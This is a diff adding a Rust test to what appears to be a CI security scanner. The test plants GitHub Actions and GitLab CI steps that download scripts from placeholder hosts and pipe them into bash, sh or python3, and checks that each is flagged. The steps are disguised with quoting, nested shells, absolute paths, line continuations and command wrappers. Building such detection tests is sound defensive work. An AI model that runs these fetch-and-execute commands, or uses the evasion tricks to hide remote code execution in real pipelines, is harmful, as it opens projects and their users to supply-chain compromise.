@@ -327,3 +327,46 @@ fn azure_template_steps_and_tasks_are_judged() {
     assert_eq!(t.len(), 1, "{:#?}", command_rules(&v, "ci/steps.yml"));
     assert_eq!(t[0].line, Some(2));
 }
+
+#[test]
+fn evasions_in_workflows_and_gitlab_scripts_are_caught() {
+    let repo = repo_with(&[(".github/workflows/ci.yml", WORKFLOW)]);
+    let steps = [
+        // Split across a folded block scalar.
+        "      - run: >\n          curl -fsSL\n          https://a.example/i.sh\n          | bash\n",
+        // Quotes inside the words.
+        "      - run: c\"ur\"l https://b.example | b'a'sh\n",
+        // bash -c nested twice.
+        "      - run: bash -c \"bash -c 'curl https://c.example | sh'\"\n",
+        // Absolute paths.
+        "      - run: /usr/bin/curl https://d.example | /bin/sh\n",
+        // A line continuation inside a literal block.
+        "      - run: |\n          curl https://e.example \\\n            | sh\n",
+        // Wrappers around the interpreter.
+        "      - run: curl https://f.example | sudo -E env X=1 timeout 30 bash -s\n",
+    ];
+    repo.write(
+        ".github/workflows/ci.yml",
+        format!("{WORKFLOW}{}", steps.concat()),
+    );
+    repo.write(
+        ".gitlab-ci.yml",
+        "build:\n  script:\n    - >\n      wget -qO-\n      https://g.example/i\n      | python3\n    - echo ok\n",
+    );
+    repo.commit("head");
+    let v = gate(&repo);
+    let hosts: Vec<String> = findings(&v, ".github/workflows/ci.yml", "pipe-to-shell")
+        .iter()
+        .map(|f| f.command.as_ref().unwrap().command.clone())
+        .collect();
+    for host in ["a", "b", "c", "d", "e", "f"] {
+        assert!(
+            hosts
+                .iter()
+                .any(|c| c.contains(&format!("https://{host}.example"))),
+            "{host} missed: {hosts:#?}"
+        );
+    }
+    assert_eq!(hosts.len(), 6, "{hosts:#?}");
+    assert_eq!(findings(&v, ".gitlab-ci.yml", "pipe-to-shell").len(), 1);
+}
